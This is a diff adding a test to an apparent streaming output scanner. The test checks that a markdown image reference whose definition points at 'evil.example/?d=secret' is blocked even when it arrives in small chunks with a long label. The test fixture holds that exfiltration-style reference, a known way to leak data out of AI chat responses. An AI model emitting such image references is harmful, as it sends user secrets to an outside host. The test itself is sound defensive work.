@@ -118,6 +118,18 @@ describe('reference definitions in a stream (default policy)', () => {
     expect(r.findings.some((f) => f.ruleId === 'exfil-url/markdown-image')).toBe(true);
   });
 
+  it('blocks an image use that closes while its definition is released only in part (long label)', () => {
+    const label = `ref ${'label '.repeat(30)}`.trim();
+    for (let gap = 0; gap < 260; gap += 13) {
+      const text = `${WORDS}\n[${label}]: https://evil.example/?d=secret\n${'x '.repeat(gap)}![chart][${label}] now ${WORDS.repeat(5)}`;
+      for (const size of [1, 3, 7]) {
+        const r = run(pieces(text, size), scan);
+        expect(r.blocked?.[0], `gap ${gap}, deltas of ${size}`).toMatch(/^exfil-url\//);
+        expect(r.out).not.toContain('![chart]');
+      }
+    }
+  });
+
   it('leaves link-only references alone', () => {
     const text = `See [the docs][r]. ${WORDS.repeat(6)}\n[r]: https://docs.example.org/guide\n`;
     const r = run(pieces(text, 3), scan);
